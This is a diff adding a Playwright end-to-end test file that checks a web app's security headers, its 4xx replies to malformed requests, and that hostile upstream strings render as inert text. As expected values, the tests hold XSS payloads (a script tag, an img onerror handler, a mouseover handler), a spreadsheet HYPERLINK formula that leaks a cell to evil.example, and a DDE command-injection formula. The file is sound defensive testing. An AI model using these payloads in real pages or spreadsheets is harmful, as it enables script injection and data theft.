@@ -1,0 +1,125 @@
+import { expect, test } from "@playwright/test";
+
+import { startFakeUpstream } from "../support/fake-upstream";
+import { startNextServer, type RunningServer } from "../support/next-server";
+import { TEST_API_KEY } from "../support/test-key";
+import { live, storeDir } from "./servers";
+
+// Security headers, bad input answered with 4xx (never 500), and hostile upstream strings.
+
+test("every response carries the security headers; framing is denied without allowed origins", async ({
+  request,
+}) => {
+  for (const route of [
+    "/",
+    "/tags/code%3Adebugging",
+    "/api/classifications",
+    "/api/status",
+    "/tags/nope",
+  ]) {
+    const response = await request.get(`${live.url}${route}`);
+    const headers = response.headers();
+    const csp = headers["content-security-policy"] ?? "";
+    expect(csp, route).toContain("default-src 'self'");
+    expect(csp, route).toContain("frame-ancestors 'none'");
+    expect(csp, route).not.toContain("unsafe-eval");
+    expect(headers["x-content-type-options"], route).toBe("nosniff");
+    expect(headers["referrer-policy"], route).toBe("strict-origin-when-cross-origin");
+    expect(headers["x-frame-options"], route).toBe("DENY");
+  }
+});
+
+test("bad input gets a clear 4xx, never a 500", async ({ request }) => {
+  const cases: Array<{ path: string; method?: string; status: number; text: string }> = [
+    { path: "/tags/code%3Anope", status: 404, text: "Page not found" },
+    { path: "/tags/%E0%A4%A", status: 400, text: "malformed percent-encoding" },
+    { path: `/tags/${"a".repeat(2_000)}`, status: 414, text: "The address is too long." },
+    {
+      path: "/api/classifications?foo=1",
+      status: 400,
+      text: "Unknown query parameter foo (this route takes none).",
+    },
+    {
+      path: "/api/status?x=1&x=2",
+      status: 400,
+      text: "Unknown query parameter x (this route takes none).",
+    },
+    {
+      path: "/api/classifications",
+      method: "POST",
+      status: 405,
+      text: "POST is not allowed here; use GET.",
+    },
+    {
+      path: "/api/classifications",
+      method: "DELETE",
+      status: 405,
+      text: "DELETE is not allowed here; use GET.",
+    },
+    { path: "/api/nothing-here", status: 404, text: "" },
+  ];
+  for (const { path, method = "GET", status, text } of cases) {
+    const response = await request.fetch(`${live.url}${path}`, { method });
+    expect(response.status(), `${method} ${path}`).toBe(status);
+    expect(await response.text(), `${method} ${path}`).toContain(text);
+  }
+});
+
+test.describe("hostile upstream strings", () => {
+  test.describe.configure({ timeout: 90_000 });
+  let upstream: Awaited<ReturnType<typeof startFakeUpstream>>;
+  let server: RunningServer;
+
+  test.beforeAll(async () => {
+    upstream = await startFakeUpstream("upstream-hostile.json");
+    server = await startNextServer("hostile", {
+      OPENROUTER_API_KEY: TEST_API_KEY,
+      OPENROUTER_BASE_URL: upstream.baseUrl,
+      DATA_DIR: storeDir("hostile"),
+    });
+  });
+
+  test.afterAll(async () => {
+    await server.stop();
+    await upstream.close();
+  });
+
+  test("render as inert text and do not break the layout", async ({ page }) => {
+    const dialogs: string[] = [];
+    page.on("dialog", (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    await page.setViewportSize({ width: 390, height: 844 });
+    await page.goto(server.url);
+    await expect(page.locator('tr[data-tag="code:general_impl"] th a')).toHaveText(
+      '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">Code Generation',
+    );
+    await expect(page.locator('tr[data-tag="code:debugging"] th a')).toHaveText(
+      '=HYPERLINK("https://evil.example/?leak="&A1,"Debugging")',
+    );
+    await expect(page.locator('tr[data-tag="translation"] th a')).toContainText("ترجمة");
+    await expect(page.locator("img[src=x]")).toHaveCount(0);
+    const overflow = await page.evaluate(
+      () => document.documentElement.scrollWidth - window.innerWidth,
+    );
+    expect(overflow).toBeLessThanOrEqual(0);
+
+    await page.goto(`${server.url}/tags/code%3Ageneral_impl`);
+    const rows = page.getByTestId("model-table").locator("tbody th");
+    await expect(rows.nth(0)).toHaveText(
+      'evil/<b onmouseover="window.__pwned=3">bold</b>-20260101',
+    );
+    await expect(rows.nth(1)).toHaveText('=cmd|" /C calc"!A0');
+    await expect(rows.nth(2)).toHaveText("weird/name with spaces %2F and ü 模型-20260101");
+    await expect(page.locator("b")).toHaveCount(0);
+    expect(
+      await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned),
+    ).toBeUndefined();
+    expect(dialogs).toEqual([]);
+    const tagOverflow = await page.evaluate(
+      () => document.documentElement.scrollWidth - window.innerWidth,
+    );
+    expect(tagOverflow).toBeLessThanOrEqual(0);
+  });
+});
